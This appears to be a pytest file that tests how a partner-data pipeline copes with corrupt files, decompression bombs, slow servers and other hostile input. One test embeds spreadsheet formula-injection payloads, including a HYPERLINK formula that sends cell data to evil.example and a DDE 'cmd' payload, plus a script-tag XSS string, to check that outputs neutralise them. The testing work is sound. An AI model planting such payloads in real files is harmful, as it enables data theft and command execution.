"""Hostile and broken input, as a careless partner or an attacker sends it: one partner never stops
the others, every reader is bounded, and a defect of partnerdata never marks a good snapshot bad.

Each test runs `partnerdata run` in-process on the real Prefect engine and asserts what a user
sees: the exit status, the last line on stderr (the source, and the limit or the fix), the other
partners published, nothing outside the given folders touched.
"""

from __future__ import annotations

import errno
import json
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
import yaml

from partnerdata import cli
from partnerdata.config.layout import PROJECT_ROOT
from tests.conftest import Project, dump_yaml
from tests.support import hostile_files
from tests.support.partner_server import Response

pytestmark = pytest.mark.usefixtures("prefect_engine")

GOOD_CSV = "id,title,start\nG-1,Good seminar,2021-05-01\nG-2,Another good seminar,2021-05-08\n"
COLUMNS = {"activity_id": "id", "title": "title", "start_date": "start"}
CONSTANTS = {"programme": "enspired", "activity_type": "seminar", "country": "BE"}


def hostile_project(tmp_path: Path, bad: dict, settings: dict | None = None) -> Project:
    """Two activity sources: 'good', a local CSV, and 'bad', whose entry ``bad`` completes."""
    root = tmp_path / "project"
    root.mkdir(exist_ok=True)
    (root / "good.csv").write_text(GOOD_CSV, encoding="utf-8")
    good = {
        "source_id": "good", "organisation": {"id": "ORG-G", "name": "Good college", "country": "BE"},
        "url": "good.csv", "format": "csv", "resource": "activities", "columns": dict(COLUMNS),
        "constants": dict(CONSTANTS),
    }  # fmt: skip
    entry = {
        "source_id": "bad", "organisation": {"id": "ORG-B", "name": "Careless college", "country": "NL"},
        "resource": "activities", "columns": dict(COLUMNS), "constants": dict(CONSTANTS), **bad,
    }  # fmt: skip
    document = {"settings": settings or {}, "sources": [good, entry]}
    (root / "sources.yaml").write_text(dump_yaml(document), encoding="utf-8")
    return Project(root)


def run(project: Project, capsys, *extra: str) -> tuple[int, str, str]:
    status = cli.main(project.cli_args(*extra))
    captured = capsys.readouterr()
    return status, captured.out, captured.err


def last_line(err: str) -> str:
    return err.strip().splitlines()[-1]


def published_ids(project: Project) -> set[str]:
    text = (project.published / "latest" / "activities.csv").read_text(encoding="utf-8")
    return {line.split(",")[0] for line in text.splitlines()[1:]}


def events(project: Project, source_id: str) -> list[dict]:
    log = project.raw / source_id / "checks.jsonl"
    return [json.loads(line) for line in log.read_text(encoding="utf-8").splitlines()]


def outside(project: Project) -> dict[str, int]:
    """Every file of the project folder but the three a run writes, with its size."""
    kept = {project.raw, project.published, project.reports}
    return {
        str(p.relative_to(project.root)): p.stat().st_size
        for p in project.root.rglob("*")
        if p.is_file() and not any(folder in p.parents for folder in kept)
    }


CORRUPT = {
    "bad shared-string index": ("xlsx", hostile_files.bad_shared_string_index, "shared string 99999"),
    "cut-off sheet": ("xlsx", hostile_files.cut_off_sheet, "sheet1.xml"),
    "flipped byte (zlib)": ("xlsx", hostile_files.flipped_byte, "sheet1.xml"),
    "entity in the sheet XML": ("xlsx", hostile_files.entity_in_sheet, "entit"),
    "JSON nested 200,000 deep": ("json", hostile_files.deep_json, "nested"),
}


@pytest.mark.parametrize("case", list(CORRUPT))
def test_a_corrupt_partner_file_is_refused_as_that_partner_and_the_others_are_published(tmp_path, capsys, case):
    fmt, make, named = CORRUPT[case]
    project = hostile_project(tmp_path, {"url": f"bad.{fmt}", "format": fmt})
    make(project.root / f"bad.{fmt}")
    before = outside(project)

    status, out, err = run(project, capsys)
    assert status == 3, err
    line = last_line(err)
    assert line.startswith("partnerdata: published release 1.0.0, but these sources failed") and "bad (" in line, line
    assert "refused" in line and named in line, line
    assert "partnerdata defect" not in out + err  # the file's fault, and nothing else
    assert published_ids(project) == {"G-1", "G-2"}  # the good partner is out, the careless one left out
    verdicts = [e for e in events(project, "bad") if e["event"] == "verdict"]
    assert [v["verdict"] for v in verdicts] == ["refused"] and named in verdicts[0]["reason"]
    validation = json.loads((project.published / "latest" / "validation.json").read_text())
    bad = next(s for s in validation["sources"] if s["source_id"] == "bad")
    assert bad["status"] == "failed" and "refused" in bad["error"]

    # Every later run goes on as well, also one that fetches only the good partner.
    status, _, err = run(project, capsys, "--only", "good")
    assert status == 3 and "bad (" in last_line(err)
    assert outside(project) == before  # nothing outside raw/, published/ and reports/ was touched


def test_a_defect_of_partnerdata_falls_back_loudly_and_never_marks_the_snapshot_bad(tmp_path, capsys, monkeypatch):
    project = hostile_project(tmp_path, {"url": "bad.json", "format": "json"})
    hostile_files.valid_json(project.root / "bad.json")
    assert run(project, capsys)[0] == 0
    assert published_ids(project) == {"G-1", "G-2", "J-1", "J-2", "J-3"}

    # The partner sends a new file, and partnerdata's mapping has a bug that this file meets.
    hostile_files.valid_json(project.root / "bad.json", rows=4)
    from partnerdata.validate import source as prepare

    real = prepare.map_columns

    def buggy(read, source, schemas, resource):
        if source.source_id == "bad" and read.table.num_rows == 4:
            return None.columns  # AttributeError, the kind of slip a refactoring leaves
        return real(read, source, schemas, resource)

    monkeypatch.setattr(prepare, "map_columns", buggy)
    status, out, err = run(project, capsys)
    assert status == 3, err
    line = last_line(err)
    assert (
        "bad (" in line and "partnerdata defect" in line and "AttributeError" in line and "validate/source.py" in line
    )
    assert "not in the partner's file" in line
    assert published_ids(project) == {"G-1", "G-2", "J-1", "J-2", "J-3"}  # its last good data, not nothing
    newest = sorted(p.name for p in (project.raw / "bad").iterdir() if p.is_dir())[-1]
    about_newest = [e for e in events(project, "bad") if e.get("snapshot") == newest]
    assert [e["event"] for e in about_newest] == ["check", "defect"]  # no verdict: it was not judged

    # Fixed code reads the same snapshot, and publishes it.
    monkeypatch.setattr(prepare, "map_columns", real)
    status, _, err = run(project, capsys)
    assert status == 0, err
    assert published_ids(project) == {"G-1", "G-2", "J-1", "J-2", "J-3", "J-4"}
    assert [
        e["verdict"] for e in events(project, "bad") if e.get("snapshot") == newest and e["event"] == "verdict"
    ] == ["good"]


def test_a_defect_that_leaves_a_partner_without_data_publishes_nothing(tmp_path, capsys, monkeypatch):
    project = hostile_project(tmp_path, {"url": "bad.json", "format": "json"})
    hostile_files.valid_json(project.root / "bad.json")
    assert run(project, capsys)[0] == 0
    hostile_files.valid_json(project.root / "bad.json", rows=4)
    (project.root / "good.csv").write_text(GOOD_CSV + "G-3,Third seminar,2021-05-15\n", encoding="utf-8")
    from partnerdata.validate import source as prepare

    real = prepare.map_columns

    def buggy(read, source, schemas, resource):  # a bug that every file of this partner meets
        if source.source_id == "bad":
            raise TypeError("unsupported operand type(s) for +: 'int' and 'str'")
        return real(read, source, schemas, resource)

    monkeypatch.setattr(prepare, "map_columns", buggy)
    status, _, err = run(project, capsys)
    assert status == 1, err
    line = last_line(err)
    assert "partnerdata defect" in line and "bad" in line and "nothing was published" in line, line
    assert json.loads((project.published / "latest.json").read_text())["version"] == "1.0.0"
    assert published_ids(project) == {"G-1", "G-2", "J-1", "J-2", "J-3"}
    assert not [e for e in events(project, "bad") if e.get("verdict") == "refused"]


def test_a_verdict_is_recorded_only_for_a_snapshot_a_release_used(tmp_path, capsys, monkeypatch):
    """A big snapshot that never got out (the disk filled while it was published) is not "good":
    the next correct, smaller file is compared with the last snapshot that was published."""
    project = hostile_project(tmp_path, {"url": "bad.json", "format": "json"})
    hostile_files.valid_json(project.root / "bad.json", rows=100)
    assert run(project, capsys)[0] == 0

    hostile_files.valid_json(project.root / "bad.json", rows=400)  # a mistaken export, four times as long
    from partnerdata.release import publish as release

    def full_disk(*args, **kwargs):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(release, "write_resource", full_disk)
    status, _, err = run(project, capsys)
    assert status == 1 and "No space left on device" in last_line(err), err
    big = sorted(p.name for p in (project.raw / "bad").iterdir() if p.is_dir())[-1]
    assert not [e for e in events(project, "bad") if e.get("snapshot") == big and e["event"] == "verdict"]

    monkeypatch.undo()
    hostile_files.valid_json(project.root / "bad.json", rows=90)  # the correct file: a tenth fewer than before
    status, _, err = run(project, capsys)
    assert status == 0, err  # not refused as a drop of 400 -> 90
    assert len(published_ids(project)) == 2 + 90


BOMBS = {
    "shared strings past max_bytes": ("xlsx", hostile_files.shared_strings_bomb, "max_bytes", {}),
    "cells up to column XFD": ("xlsx", hostile_files.cells_to_xfd, "max_columns", {}),
    "one shared string in a thousand cells": ("xlsx", hostile_files.repeated_shared_string, "max_bytes", {}),
    "XML nested 2,000,000 deep": ("iati", hostile_files.deep_xml, "max_depth", {}),
    "five million empty JSON objects": ("json", hostile_files.json_object_flood, "max_cells", {}),
}


@pytest.mark.slow
@pytest.mark.parametrize("case", list(BOMBS))
def test_a_bomb_fails_as_its_source_with_the_limit_named(tmp_path, capsys, case):
    fmt, make, limit, extra = BOMBS[case]
    entry = {"url": f"bad.{fmt}", "format": fmt, **extra}
    if fmt == "iati":
        entry = {"url": "bad.xml", "format": "iati"}
    project = hostile_project(tmp_path, entry)
    if fmt == "iati":
        del_keys(project, "bad", ("resource", "columns"))
    make(project.root / Path(entry["url"]).name)
    before = outside(project)
    started = time.monotonic()
    status, _, err = run(project, capsys)
    assert status == 3, err
    line = last_line(err)
    assert "bad (" in line and limit in line and f"raise {limit}" in line, line
    assert published_ids(project) == {"G-1", "G-2"}
    assert time.monotonic() - started < 120  # refused early, not after minutes of unpacking
    assert outside(project) == before


def del_keys(project: Project, source_id: str, keys: tuple[str, ...]) -> None:
    document = yaml.safe_load(project.sources.read_text(encoding="utf-8"))
    for entry in document["sources"]:
        if entry["source_id"] == source_id:
            for key in keys:
                entry.pop(key, None)
    project.sources.write_text(dump_yaml(document), encoding="utf-8")


def test_a_slow_drip_server_is_cut_off_at_max_total_seconds(tmp_path, capsys, partner_server):
    body = GOOD_CSV.replace("G-", "S-").encode()
    url = partner_server.serve("/slow.csv", Response(200, body, drip=0.5))  # about 60 s for the whole answer
    project = hostile_project(
        tmp_path, {"url": url, "format": "csv", "timeout_seconds": 5, "retries": 0, "max_total_seconds": 3}
    )
    started = time.monotonic()
    status, _, err = run(project, capsys)
    elapsed = time.monotonic() - started
    assert status == 3, err
    line = last_line(err)
    assert "bad (" in line and "max_total_seconds (3 s)" in line, line
    assert published_ids(project) == {"G-1", "G-2"}
    assert elapsed < 0.5 * len(body) / 2  # long before the server would have finished, the run was over


def test_a_local_url_that_never_ends_is_refused(tmp_path, capsys):
    project = hostile_project(tmp_path, {"url": "/dev/zero", "format": "csv", "max_bytes": 1000})
    status, _, err = run(project, capsys)
    assert status == 3, err
    assert "bad (" in last_line(err) and "not a regular file" in last_line(err)
    assert published_ids(project) == {"G-1", "G-2"}


def test_a_download_killed_midway_leaves_nothing_behind_after_the_next_run(tmp_path, capsys, partner_server):
    body = GOOD_CSV.replace("G-", "K-").encode()
    url = partner_server.serve("/export.csv", Response(200, body, drip=0.2), Response(200, body))
    project = hostile_project(tmp_path, {"url": url, "format": "csv", "timeout_seconds": 5, "retries": 0})
    # A download by the library in a process of its own, killed with SIGKILL while the bytes arrive.
    code = (
        "import sys, datetime as dt; from pathlib import Path\n"
        "from partnerdata.config.sources import load_config; from partnerdata.config.schemas import load_schemas\n"
        "from partnerdata.config.layout import SCHEMAS_DIR; from partnerdata.collect.snapshots import take_snapshot\n"
        "source = load_config(sys.argv[1], load_schemas(SCHEMAS_DIR)).source('bad')\n"
        "take_snapshot(source, Path(sys.argv[2]), dt.datetime.now(dt.UTC))\n"
    )
    downloading = subprocess.Popen(
        [sys.executable, "-c", code, str(project.sources), str(project.raw)], cwd=PROJECT_ROOT
    )
    deadline = time.monotonic() + 60
    while not list((project.raw / "bad").glob(".incoming-*/body.csv")) and time.monotonic() < deadline:
        time.sleep(0.05)
    downloading.send_signal(signal.SIGKILL)
    downloading.wait(timeout=30)
    assert list((project.raw / "bad").glob(".incoming-*")), "the download was not caught in the middle"

    assert run(project, capsys)[0] == 0
    assert not list((project.raw / "bad").glob(".incoming-*"))
    assert published_ids(project) == {"G-1", "G-2", "K-1", "K-2"}


def test_a_redirect_to_a_signed_url_that_fails_publishes_no_signature(tmp_path, capsys, partner_server):
    signed = (
        "/bucket/export.csv?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=AKIAEXAMPLEKEY%2F20261201%2Feu-west-1"
        "&X-Amz-Date=20261201T020000Z&X-Amz-Expires=60&X-Amz-SignedHeaders=host&X-Amz-Signature=5ecre75igna7ure"
    )
    partner_server.serve("/bucket/export.csv", Response(403, b"<Error><Code>AccessDenied</Code></Error>"))
    url = partner_server.serve("/export.csv", Response(302, headers={"Location": partner_server.base_url + signed}))
    project = hostile_project(tmp_path, {"url": url, "format": "csv", "retries": 0})
    status, out, err = run(project, capsys)
    assert status == 3 and "HTTP 403" in last_line(err), err
    assert "X-Amz-Signature=<redacted>" in last_line(err)
    everything = out + err
    for folder in (project.published, project.reports, project.raw):
        everything += "".join(p.read_text(errors="replace") for p in folder.rglob("*") if p.is_file())
    for secret in ("5ecre75igna7ure", "AKIAEXAMPLEKEY"):
        assert secret not in everything


def test_a_catalogue_that_cannot_be_rebuilt_is_the_last_line_of_the_summary(tmp_path, capsys, monkeypatch):
    from partnerdata.run import steps as pipeline

    def broken(*args, **kwargs):
        raise OSError("disk full")

    monkeypatch.setattr(pipeline, "refresh_catalogue", broken)
    project = hostile_project(tmp_path, {"url": "bad.json", "format": "json"})
    hostile_files.valid_json(project.root / "bad.json")
    status, out, _ = run(project, capsys)
    assert status == 0  # the release is out and correct
    assert out.strip().splitlines()[-1] == (
        "  warning: the catalogue could not be rebuilt (OSError: disk full); the next run tries again"
    )


def test_partner_text_stays_data_in_every_output(tmp_path, capsys):
    """The published CSV is the data, byte for byte, formulas included (README, "Security and limits");
    the private rejected.csv maintainers open in Excel runs no formula; CHANGES.md renders no HTML."""
    from markdown_it import MarkdownIt

    project = hostile_project(tmp_path, {"url": "bad.json", "format": "json"})
    records = [{"id": "J-1", "title": "Seminar", "start": "2021-04-02"}]
    (project.root / "bad.json").write_text(json.dumps(records))
    assert run(project, capsys)[0] == 0
    formula = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    records = [
        {"id": "J-1", "title": f"<script>alert(1)</script> {formula}", "start": "2021-04-02"},
        {"id": "J-2", "title": "A bad date", "start": "=1+cmd|' /C calc'!A0"},
        *({"id": f"J-{n}", "title": f"Seminar {n}", "start": "2021-04-03"} for n in range(3, 9)),
    ]
    (project.root / "bad.json").write_text(json.dumps(records))
    assert run(project, capsys)[0] == 0
    published = (project.published / "latest" / "activities.csv").read_text(encoding="utf-8")
    assert '"<script>alert(1)</script> =HYPERLINK(""https://evil.example/?""&A1,""click"")"' in published
    rejected = (project.reports / "latest" / "bad" / "rejected.csv").read_text(encoding="utf-8")
    assert ",'=1+cmd|' /C calc'!A0," in rejected and ",=1+cmd" not in rejected
    changes = (project.published / "latest" / "CHANGES.md").read_text(encoding="utf-8")
    rendered = MarkdownIt("commonmark").render(changes)
    assert "alert(1)" in rendered and "<script" not in rendered and "evil.example" in rendered
    assert '<a href="https://evil' not in rendered


def test_a_typo_in_the_mapping_never_refuses_good_snapshots_nor_drops_the_partner(tmp_path, capsys):
    project = hostile_project(tmp_path, {"url": "bad.json", "format": "json"})
    hostile_files.valid_json(project.root / "bad.json")
    assert run(project, capsys)[0] == 0
    hostile_files.valid_json(project.root / "bad.json", rows=4)  # the partner sends a new file ...
    good_entry = project.sources.read_text(encoding="utf-8")
    document = yaml.safe_load(good_entry)
    document["sources"][1]["columns"]["title"] = "titel"  # ... and a maintainer's typo in its entry
    project.sources.write_text(dump_yaml(document), encoding="utf-8")

    status, _, err = run(project, capsys, "--dry-run")  # a dry run to try the edit judges and records nothing
    assert status == 3, err
    assert not [e for e in events(project, "bad") if e["event"] in ("verdict", "defect")][1:]  # only 1.0.0's good

    status, _, err = run(project, capsys)
    assert status == 1, err
    line = last_line(err)
    assert "judged good before and now fails" in line and "check the entry" in line and "nothing was published" in line
    assert published_ids(project) == {"G-1", "G-2", "J-1", "J-2", "J-3"}  # the release kept the partner's records
    first = sorted(p.name for p in (project.raw / "bad").iterdir() if p.is_dir())[0]
    assert [e["verdict"] for e in events(project, "bad") if e.get("snapshot") == first and "verdict" in e] == ["good"]

    project.sources.write_text(good_entry, encoding="utf-8")  # the fix; then a republish, fetching nothing
    status, out, err = run(project, capsys, "--no-fetch")
    assert status == 0, err
    assert published_ids(project) == {"G-1", "G-2", "J-1", "J-2", "J-3", "J-4"}  # the new file, judged again


@pytest.mark.parametrize(
    "second_page, named",
    [
        (b'{"items": [{"id": "P-2", "n": ' + b"[" * 200_000 + b"]" * 200_000 + b"}]}", "nested"),
        (b'{"items": [], "next": "http://[::1/next"}', "link cannot be followed"),
        (b"[" + b",".join([b"{}"] * 6_000_000) + b"]", "max_cells"),
    ],
    ids=["nested 200,000 deep", "a next link that is no URL", "six million empty objects"],
)
def test_a_hostile_page_of_an_api_fails_as_its_source(tmp_path, capsys, partner_server, second_page, named):
    first = b'{"items": [{"id": "P-1", "title": "Paged", "start": "2021-06-01"}], "next": "/api?page=2"}'

    def page(path, headers):
        return Response(200, second_page if "page=2" in path else first, {"Content-Type": "application/json"})

    url = partner_server.serve("/api", page)
    project = hostile_project(
        tmp_path,
        {"url": url, "format": "json", "retries": 0, "json": {"record_path": "items",
                                                              "pagination": {"style": "next_link"}}},
    )  # fmt: skip
    status, _, err = run(project, capsys)
    assert status == 3, err
    line = last_line(err)
    assert "bad (" in line and named in line, line
    assert published_ids(project) == {"G-1", "G-2"}


def test_a_header_of_a_hundred_thousand_columns_is_refused_at_once(tmp_path, capsys):
    project = hostile_project(tmp_path, {"url": "bad.csv", "format": "csv"})
    (project.root / "bad.csv").write_text(
        "id,title,start" + "," * 100_000 + "\nW-1,Wide,2021-01-01\n", encoding="utf-8"
    )
    started = time.monotonic()
    status, _, err = run(project, capsys)
    assert status == 3 and "max_columns" in last_line(err) and "bad (" in last_line(err), err
    assert time.monotonic() - started < 120  # comparing 100,000 names with each other took minutes
